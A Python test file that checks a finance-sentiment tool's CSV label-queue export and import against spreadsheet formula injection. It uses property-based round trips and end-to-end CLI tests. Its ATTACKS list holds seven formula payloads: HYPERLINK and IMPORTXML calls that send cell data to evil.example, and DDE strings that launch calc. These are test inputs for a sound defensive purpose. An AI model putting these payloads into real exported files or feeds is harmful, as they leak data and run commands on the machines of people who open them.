"""CSV formula injection in ``finsent label queue`` / ``label import`` (issue 22, item 4).

Text from any feed ends up in the queue CSV that analysts open in a spreadsheet. Asserted: no cell of an
exported file starts with a formula character (``= + - @``, tab, CR), and the import reads back exactly
the stored text and id (a fuzzed round trip through the real ``csv`` module, and the 7 attacker texts
through a real chdb store and the CLI).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import logging
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from finsent.core.events import ScoredItem, stable_id
from finsent.models.labels import QUEUE_CSV_COLUMNS, csv_cell, csv_uncell
from finsent.stream.store import open_store
from tests.models.test_labels import cli, read_csv, scored, write_csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: the probe's attacker texts: each one is a live formula when a spreadsheet opens an unescaped cell
ATTACKS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the full story")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?d=",B2),"//a")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://evil.example/","tab first")',
)


@pytest.fixture(autouse=True)
def _no_registry(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FINSENT_REGISTRY", "")
    monkeypatch.delenv("FINSENT_MODEL_DIR", raising=False)


@pytest.fixture
def store_url(chdb_db_url: str) -> str:
    return chdb_db_url


@pytest.fixture
def store(store_url: str) -> Iterator:
    s = open_store(store_url)
    s.ensure_schema()
    yield s
    s.close()


def _scored(item_id: str, text: str) -> ScoredItem:
    base = scored(0, 0.4, 0.35)
    return dataclasses.replace(base, item=dataclasses.replace(base.item, id=item_id, text=text))


def _through_csv(cells: list[str]) -> list[str]:
    """Write one row of escaped cells with the csv module and read it back unescaped, as export/import do."""
    buf = io.StringIO(newline="")
    csv.writer(buf).writerow([csv_cell(c) for c in cells])
    buf.seek(0)
    (row,) = list(csv.reader(buf))
    assert not any(cell.startswith(FORMULA_START) for cell in row), row
    return [csv_uncell(cell) for cell in row]


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\"a, é€"), max_size=12) | st.text(max_size=40))
def test_escape_round_trips_every_string_and_never_leaves_a_formula(text: str) -> None:
    assert csv_uncell(csv_cell(text)) == text
    assert not csv_cell(text).startswith(FORMULA_START)
    assert _through_csv([text, "plain", text]) == [text, "plain", text]


def test_escape_rule_examples() -> None:
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\r=1") == "'\r=1"
    assert csv_cell("-5% on the day") == "'-5% on the day"
    assert csv_cell("'=already quoted") == "''=already quoted"  # a text that really begins with '= ...
    assert csv_uncell("''=already quoted") == "'=already quoted"  # ... round-trips exactly
    assert csv_cell("'tis the season") == "'tis the season" == csv_uncell("'tis the season")  # no formula: untouched
    assert csv_cell("Acme beats") == "Acme beats" and csv_cell(0.25) == 0.25  # numbers stay numbers
    assert csv_uncell("=typed by a human") == "=typed by a human"  # a spreadsheet that saved the file dropped its '


@pytest.mark.integration
def test_queue_exports_attacker_texts_as_text_and_import_reads_them_back(store, store_url, capsys, tmp_path) -> None:
    items = [_scored(f"item-{i}", text) for i, text in enumerate(ATTACKS)]
    # an attacker-chosen id (push clients choose their ids) must survive the round trip too
    evil = _scored('=HYPERLINK("http://evil.example/")', "@SUM(A1:A9)")
    store.insert_scored([*items, evil])
    by_id = {s.item.id: s.item.text for s in [*items, evil]}

    out_csv = tmp_path / "queue.csv"
    rc, _, err = cli(capsys, store_url, "label", "queue", "--n", "20", "--csv", str(out_csv))
    assert rc == 0, err
    rows = read_csv(out_csv)
    assert len(rows) == len(by_id) == 8
    live = [(r["id"], col, v) for r in rows for col, v in r.items() if v.startswith(FORMULA_START)]
    assert live == [], f"{len(live)} cells a spreadsheet would run as formulas: {live[:3]}"
    assert sorted(csv_uncell(r["text"]) for r in rows) == sorted(by_id.values())
    assert all(r["text"].startswith("'") for r in rows)  # every attacker text was neutralised, none dropped

    # the analyst fills in the labels; the import finds every item (ids unescaped) and records its stored text
    for r in rows:
        r["sentiment"] = "negative"
    with open(out_csv, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(QUEUE_CSV_COLUMNS))
        w.writeheader()
        w.writerows(rows)
    rc, out, err = cli(capsys, store_url, "label", "import", str(out_csv))
    report = json.loads(out)
    assert rc == 0 and report["imported"] == 8 and report["error_count"] == 0, (out, err)
    assert {lbl.id: lbl.text for lbl in store.labels()} == by_id

    # text that is not stored (text,label columns): the id is the hash of the unescaped text
    path = write_csv(
        tmp_path / "new.csv",
        [
            ["text", "label"],
            *[[csv_cell(t), "negative"] for t in ATTACKS[:3]],
            [csv_cell("'=really begins with a quote"), "neutral"],
        ],
    )
    rc, out, _ = cli(capsys, store_url, "label", "import", path)
    assert rc == 0 and json.loads(out)["imported"] == 4
    texts = {lbl.id: lbl.text for lbl in store.labels()}
    for t in [*ATTACKS[:3], "'=really begins with a quote"]:
        assert texts[stable_id(t.strip())] == t.strip()


@pytest.mark.integration
def test_many_bad_rows_are_summarised_not_logged_one_by_one(store, store_url, capsys, caplog, tmp_path) -> None:
    store.insert_scored([scored(1, 0.7, 0.2)])
    bad = 5000
    path = write_csv(
        tmp_path / "bad.csv",
        [["id", "sentiment"], ["item-1", "negative"], *[[f"nope-{i}", "negative"] for i in range(bad)]],
    )
    caplog.set_level(logging.WARNING, logger="finsent.models.labels")
    rc, out, err = cli(capsys, store_url, "label", "import", path)
    report = json.loads(out)
    assert rc != 0 and report["imported"] == 1 and report["error_count"] == bad and len(report["errors"]) == 100
    lines = [r.getMessage() for r in caplog.records if r.name == "finsent.models.labels"]
    assert len(lines) == 11, lines[:3]  # the first 10 rows, then one line with the count of the rest
    assert f"{bad - 10} more row(s) not imported" in lines[-1]
